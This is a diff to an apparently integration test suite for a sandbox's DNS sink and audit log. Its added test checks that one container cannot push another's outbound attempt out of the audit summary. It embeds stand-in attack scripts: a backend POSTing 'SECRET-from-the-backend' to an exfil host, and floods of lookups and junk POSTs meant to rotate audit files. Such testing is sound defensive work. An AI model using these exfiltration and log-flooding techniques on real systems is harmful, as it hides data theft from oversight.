@@ -308,23 +308,11 @@ print("flooded", made)
 SHRUNK_FILE_BYTES = 16 * 1024
 
 
-def test_a_flood_of_malformed_and_oversized_attempts_neither_stops_the_sink_nor_erases_the_audit(
-        gateway, docker_client, tmp_path, monkeypatch):
-    """Tried as an attacker would: a front-end looked up a name and POSTed a
-    body to an outside address (both recorded), then flooded the sink with
-    oversized requests and long names; both rotation files turned over and
-    `sandbox audit` no longer showed the lookup or the POST. A DNS query
-    without a class field stopped the sink (it restarted in a loop), and
-    `Content-Length: ²` left a connection unrecorded."""
+def shrink_the_sinks_files(monkeypatch) -> None:
+    """The sandboxes `up` makes in this test turn the sink's detail files over at SHRUNK_FILE_BYTES."""
     import dataclasses
-    import importlib.util
 
     import launcher.commands.prepare
-    from launcher.commands.audit import KEPT_BYTES
-    from tests.integration.conftest import ROOT
-    spec = importlib.util.spec_from_file_location("sink", ROOT / "images" / "dns-sink" / "sink.py")
-    sink = importlib.util.module_from_spec(spec)
-    spec.loader.exec_module(sink)
     build_spec = launcher.commands.prepare.build_spec
 
     def shrunk(*args, **kwargs):
@@ -333,6 +321,24 @@ def test_a_flood_of_malformed_and_oversized_attempts_neither_stops_the_sink_nor_
             dataclasses.replace(c, env=c.env + (("SANDBOX_SINK_AUDIT_FILE_BYTES", str(SHRUNK_FILE_BYTES)),))
             if c.part == "dns" else c for c in made.containers))
     monkeypatch.setattr(launcher.commands.prepare, "build_spec", shrunk)
+
+
+def test_a_flood_of_malformed_and_oversized_attempts_neither_stops_the_sink_nor_erases_the_audit(
+        gateway, docker_client, tmp_path, monkeypatch):
+    """Tried as an attacker would: a front-end looked up a name and POSTed a
+    body to an outside address (both recorded), then flooded the sink with
+    oversized requests and long names; both rotation files turned over and
+    `sandbox audit` no longer showed the lookup or the POST. A DNS query
+    without a class field stopped the sink (it restarted in a loop), and
+    `Content-Length: ²` left a connection unrecorded."""
+    import importlib.util
+
+    from launcher.commands.audit import KEPT_BYTES
+    from tests.integration.conftest import ROOT
+    spec = importlib.util.spec_from_file_location("sink", ROOT / "images" / "dns-sink" / "sink.py")
+    sink = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(sink)
+    shrink_the_sinks_files(monkeypatch)
     result = up(gateway, write_policy(tmp_path, audit="connections"), ca_bundle=ca_bundle())
     try:
         frontend = docker_client.containers.get(f"sandbox-{result.name}-frontend")
@@ -368,6 +374,7 @@ def test_a_flood_of_malformed_and_oversized_attempts_neither_stops_the_sink_nor_
         assert stolen["said"] == ["POST http://upload.attacker.example/steal (27 B body)"]
         during = next(d for d in report["destinations"] if d["name"] == "during-the-flood.attacker.example")
         assert during["said"] == ["GET http://during-the-flood.attacker.example/during (0 B body)"]
+        assert during["count_is_lower_bound"]  # past the front-end's own table: from its detail record, at least
         # Every malformed query and connection was recorded, none stopped the sink.
         assert names(report)["(malformed)"]["count"] > 0  # as many as the sink's queue did not drop
         # (and all_taken above: every connection, half of them with `Content-Length: ²`, counted)
@@ -391,5 +398,84 @@ def test_a_flood_of_malformed_and_oversized_attempts_neither_stops_the_sink_nor_
         assert sizes["summary.json"] <= sink.SUMMARY_BYTES
         volume_bound = 4 * 8 * 1024 * 1024 + 2 * sink.SUMMARY_BYTES + 2 * 4096 + KEPT_BYTES
         assert sum(sizes.values()) <= volume_bound
+    finally:
+        down(gateway, result.name, volumes=True)
+
+
+# The front-end fills its own table in the sink's summary with new names.
+FILL_THE_TABLE = """
+import socket, sys
+for n in range(int(sys.argv[1])):
+    socket.gethostbyname(f"fill{n}.attacker.example")  # each answered, by the sink: none lost in its queue
+"""
+
+# A backend's attempt: a lookup and a POST with a body.
+BACKEND_POST = """
+import socket
+address = socket.gethostbyname("exfil.backend.example")
+with socket.create_connection((address, 80), timeout=10) as s:
+    s.sendall(b"POST /up HTTP/1.1\\r\\nHost: exfil.backend.example\\r\\nContent-Length: 23\\r\\n\\r\\nSECRET-from-the-backend")
+    s.recv(1)
+"""
+
+# Then junk POSTs of 16 KiB bodies: the connections' detail files turn over
+# again and again.
+JUNK = """
+import socket, sys
+for n in range(int(sys.argv[1])):
+    with socket.create_connection(("203.0.113.30", 80), timeout=10) as s:
+        s.sendall(b"POST /junk%d HTTP/1.1\\r\\nHost: j\\r\\nContent-Length: 16384\\r\\n\\r\\n" % n + b"z" * 16384)
+        s.recv(1)
+print("sent")
+"""
+
+
+def test_one_part_filling_its_table_in_the_summary_cannot_erase_anothers_attempt(
+        gateway, docker_client, tmp_path, monkeypatch):
+    """Tried as an attacker would: the summary's 1,000-destination table was
+    shared by all parts; the front-end filled it with new names, and a
+    backend's lookup and POST (body SECRET-...) made after that existed only
+    in the detail files, which 75 s of the front-end's junk POSTs turned
+    over: the audit kept only "5x more attempts by backend". Each part now
+    has a table of its own: the backend's attempt stays itemised, with its
+    body and exact count, after the detail files turned over; the control:
+    the front-end's own attempts past its table are counted, not itemised."""
+    import importlib.util
+
+    from tests.integration.conftest import ROOT
+    spec = importlib.util.spec_from_file_location("sink", ROOT / "images" / "dns-sink" / "sink.py")
+    sink = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(sink)
+    shrink_the_sinks_files(monkeypatch)
+    result = up(gateway, write_policy(tmp_path, audit="connections"), ca_bundle=ca_bundle())
+    try:
+        frontend = docker_client.containers.get(f"sandbox-{result.name}-frontend")
+        backend = docker_client.containers.get(f"sandbox-{result.name}-backend")
+        past_the_table = 20
+        run = frontend.exec_run(["python3", "-c", FILL_THE_TABLE, str(sink.MAX_DESTINATIONS_PER_PART + past_the_table)])
+        assert run.exit_code == 0, run.output.decode()[-2000:]
+        wait_for(lambda: audit(gateway, result.name)["not_itemised"].get("frontend", 0) >= past_the_table)
+        run = backend.exec_run(["/opt/venv/bin/python", "-c", BACKEND_POST])
+        assert run.exit_code == 0, run.output.decode()[-2000:]
+        junk = 200
+        run = frontend.exec_run(["python3", "-c", JUNK, str(junk)])
+        assert run.exit_code == 0 and b"sent" in run.output, run.output.decode()[-2000:]
+        report = wait_for(lambda: (r := audit(gateway, result.name))["not_itemised"].get("frontend", 0)
+                          >= past_the_table + junk and r, seconds=120)
+        # The flood did turn the detail file over: the backend's POST in detail is gone.
+        assert not any(c["part"] == "backend" for c in report["connections"])
+        # The backend's attempt is itemised all the same, exactly, with its body.
+        [post] = [d for d in report["destinations"] if d["name"] == "exfil.backend.example"]
+        assert (post["parts"], post["count"], post["count_is_lower_bound"], post["bodies"]) == (
+            ["backend"], 1, False, ["SECRET-from-the-backend"])
+        [lookup] = [n for n in report["names"] if n["name"] == "exfil.backend.example"]
+        assert (lookup["parts"], lookup["count"], lookup["count_is_lower_bound"]) == (["backend"], 1, False)
+        # The control: the front-end's attempts past its own table are counted, not itemised.
+        assert report["not_itemised"]["frontend"] >= past_the_table + junk and "backend" not in report["not_itemised"]
+        assert not any(d["address"] == "203.0.113.30" and not d["count_is_lower_bound"]
+                       for d in report["destinations"])
+        text = runner.invoke(app, ["audit", result.name]).stdout
+        assert "body: SECRET-from-the-backend" in text
+        assert f"{report['not_itemised']['frontend']}x  more attempts by frontend" in text
     finally:
         down(gateway, result.name, volumes=True)
